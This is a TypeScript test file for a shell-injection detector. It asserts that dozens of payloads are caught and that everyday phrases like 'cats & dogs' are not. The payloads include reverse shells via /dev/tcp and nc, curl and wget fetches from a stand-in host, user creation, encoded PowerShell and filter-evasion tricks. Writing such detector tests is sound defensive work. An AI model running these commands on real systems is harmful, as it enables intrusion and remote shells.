import { strict as assert } from 'node:assert'
import { test } from 'node:test'
import { shellIn } from './shell.ts'

const missed = (texts: readonly string[]): string[] => texts.filter((text) => !shellIn(text).is)
const wrong = (texts: readonly string[]): string[] => texts.filter((text) => shellIn(text).is)

test('commands behind what separates or substitutes are seen', () => {
  assert.deepEqual(
    missed([
      `;id`,
      `10.0.0.9;id`,
      `|whoami`,
      `a.txt|ls -la`,
      `&&cat /etc/hosts`,
      `x\ncat /etc/hosts`,
      `$(curl h.example/a)`,
      '`wget http://h.example/a`',
      `a & ping -c 3 10.0.0.9`,
      `; bash -i >& /dev/tcp/10.0.0.9/4 0>&1`,
      `;nc -e /bin/sh 10.0.0.9 4`,
      `|/usr/bin/id`,
      `;python -c 'import os'`,
      `$((17+4))`,
      `() { :;}; echo a`,
      `a;sleep 9`,
      `;uname -a`,
      `'; net user kim pw /add`,
      `| dir c:\\`,
      `& type c:\\boot.ini`,
      `cmd /c dir`,
      `powershell -enc SQBFAFgA`,
      `wget http://h.example/a -O /tmp/a`,
      `cat /etc/hosts`,
      `system('id')`,
    ]),
    [],
  )
})

test('quotes, variables, braces and globs do not hide a command', () => {
  assert.deepEqual(
    missed([
      `;c''at /etc/hosts`,
      `;c\\at /etc/hosts`,
      `;w"ho"ami`,
      `;cat$IFS/etc/hosts`,
      `;cat\${IFS}/etc/hosts`,
      `;{cat,/etc/hosts}`,
      `;/???/c?t /etc/hosts`,
      `;wh$@oami`,
      `&& who^ami`,
      `;a=id;$a`,
    ]),
    [],
  )
})

test('what people write is no command', () => {
  assert.deepEqual(
    wrong([
      `time for him; find out`,
      `cats & dogs`,
      `a|b`,
      `salt & pepper; cut it fine`,
      `PHP & MySQL`,
      `python; perl; ruby`,
      `python | perl`,
      `name;id;date`,
      `fish & chips`,
      `hat;cat`,
      `Amazon & echo dot`,
      `hunger & sed`,
      `find time | sort it out`,
      `use \`ls -la\` to list files`,
      `$(document).ready`,
      `$('#id')`,
      `it's late; sleep well`,
      `R&D`,
      `AT&T`,
      `1 < 2 > 0`,
      `Tom &amp; Jerry &quot;id&quot; bash`,
      `more | less`,
      `who & what`,
      `line one\nfind it here\nwho knows`,
      `a;b;c`,
      `C:\\Users`,
      `9 > 8; head to tail`,
      `price ($)`,
      `{"a":"b","c":"d"}`,
      `git rebase or merge`,
    ]),
    [],
  )
})
